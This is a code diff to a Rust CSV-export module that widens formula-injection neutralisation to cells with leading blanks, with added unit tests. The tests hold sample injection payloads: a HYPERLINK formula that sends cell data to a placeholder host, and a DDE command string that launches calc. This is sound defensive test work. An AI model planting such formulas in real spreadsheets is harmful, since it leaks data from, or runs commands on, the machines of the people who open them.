@@ -5,12 +5,19 @@
 
 use crate::plan::Draft;
 
-/// A leading `'` on text a spreadsheet would read as a formula. A plain
-/// number such as `-3` is left alone: it is data, not a formula, and the
-/// parser drops one leading `'` anyway when the file comes back.
+/// A leading `'` on text a spreadsheet would read as a formula (SPEC §5):
+/// its first non-blank character is `=`, `+`, `-` or `@`, or it starts with
+/// a tab or carriage return — a spreadsheet skips leading spaces, so
+/// ` =HYPERLINK(…)` is as live as `=HYPERLINK(…)`. A plain number such as
+/// `-3` is left alone: it is data, not a formula. The import drops one
+/// leading `'`, so a neutralised cell reads back as it was. Every CSV
+/// stockdrop writes (this report and `stockdrop export`) goes through here.
 pub fn neutralise(cell: &str) -> String {
-    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    if risky && !is_plain_number(cell) {
+    let first_visible =
+        cell.trim_start_matches(|c: char| c.is_whitespace() && c != '\t' && c != '\r');
+    let risky = cell.starts_with(['\t', '\r'])
+        || first_visible.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_plain_number(first_visible) {
         format!("'{cell}")
     } else {
         cell.to_string()
@@ -78,6 +85,22 @@ mod tests {
         assert_eq!(neutralise("-1.5"), "-1.5");
         assert_eq!(neutralise("+7"), "+7");
         assert_eq!(neutralise("A-1"), "A-1");
+    }
+
+    #[test]
+    fn formulas_behind_blanks_are_neutralised() {
+        let link = " =HYPERLINK(\"http://x.example/?\"&A1)";
+        assert_eq!(neutralise(link), format!("'{link}"));
+        assert_eq!(neutralise("  @SUM(1+1)"), "'  @SUM(1+1)");
+        assert_eq!(neutralise("\u{a0}+cmd"), "'\u{a0}+cmd");
+        assert_eq!(neutralise(" \t=x"), "' \t=x");
+        assert_eq!(
+            neutralise("@SUM(1+1)*cmd|' /C calc'!A0"),
+            "'@SUM(1+1)*cmd|' /C calc'!A0"
+        );
+        assert_eq!(neutralise(" -3"), " -3");
+        assert_eq!(neutralise(" 12"), " 12");
+        assert_eq!(neutralise("a =b"), "a =b");
     }
 
     #[test]
